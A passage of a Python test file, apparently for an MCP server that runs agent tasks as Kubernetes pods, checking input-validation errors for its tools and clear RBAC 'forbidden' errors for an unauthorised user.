            result = await mcp.call("spawn_async_tasks", {"tasks_file": tasks_file})
            assert result.error == f"Error executing tool spawn_async_tasks: invalid tasks_file: {message}"
    assert world.cluster.jobs() == []
    assert not list(repo.glob("specs/*/.async_state"))


async def test_bad_input_of_the_read_tools(world: World) -> None:
    async with connect(world.env()) as mcp:
        wait = await mcp.call("stream_task_logs", {"wait_seconds": 51})
        cursor = await mcp.call("stream_task_logs", {"cursor": "garbage"})
        env = await mcp.call("list_agents", {"environment": "qa"})
        task = await mcp.call("cancel_task", {"task_id": "T1\n"})
    assert (
        wait.error == "Error executing tool stream_task_logs: invalid wait_seconds: input should be less than or equal "
        "to 50."
    )
    assert cursor.error == (
        "Error executing tool stream_task_logs: invalid cursor: it is not a cursor returned by "
        "stream_task_logs; allowed: the `cursor` of a previous stream_task_logs result for the same "
        "environment, or empty."
    )
    assert env.error == (
        "Error executing tool list_agents: invalid environment: unknown environment 'qa'; "
        "allowed: one of the configured environments: dev, prod, stg."
    )
    assert (
        task.error == "Error executing tool cancel_task: invalid task_id: it contains characters that are not allowed; "
        f"{ALLOWED_ID}"
    )


# -- RBAC: the chart's developer subject can do everything, a stranger nothing ------------------


def forbidden(namespace: str, verb: str, resource: str) -> str:
    return (
        f"forbidden: user 'stranger' may not {verb} {resource} in namespace '{namespace}' (missing RBAC "
        f"permission: verb '{verb}' on resource '{resource}'). Ask a cluster admin to add your identity to "
        f"rbac.subjects of the chart release '{RELEASE}' in namespace '{namespace}'."
    )


async def test_a_stranger_gets_a_clear_forbidden_error_from_every_tool(world: World) -> None:
    calls = {
        "spawn_task_pod": (spawn_args("T002"), "get", "podtemplates"),
        # spawn reads the release's repo hosts and git Secrets (the PodTemplate) before anything else
        "spawn_async_tasks": ({"tasks_file": f"specs/{FEATURE}/tasks.md"}, "get", "podtemplates"),
        "stream_task_logs": ({"wait_seconds": 0}, "list", "jobs.batch"),
        "list_agents": ({}, "list", "jobs.batch"),
        "get_task_status": ({"task_id": "T002"}, "list", "jobs.batch"),
        "cancel_task": ({"task_id": "T002"}, "list", "jobs.batch"),
        "cleanup_tasks": ({"dry_run": False}, "list", "jobs.batch"),
    }
    async with connect(world.env("stranger")) as mcp:
        for tool, (arguments, verb, resource) in calls.items():
            result = await mcp.call(tool, arguments)
            assert result.error == f"Error executing tool {tool}: {forbidden(world.namespace, verb, resource)}"
            assert "Traceback" not in result.error
    assert world.cluster.jobs() == []
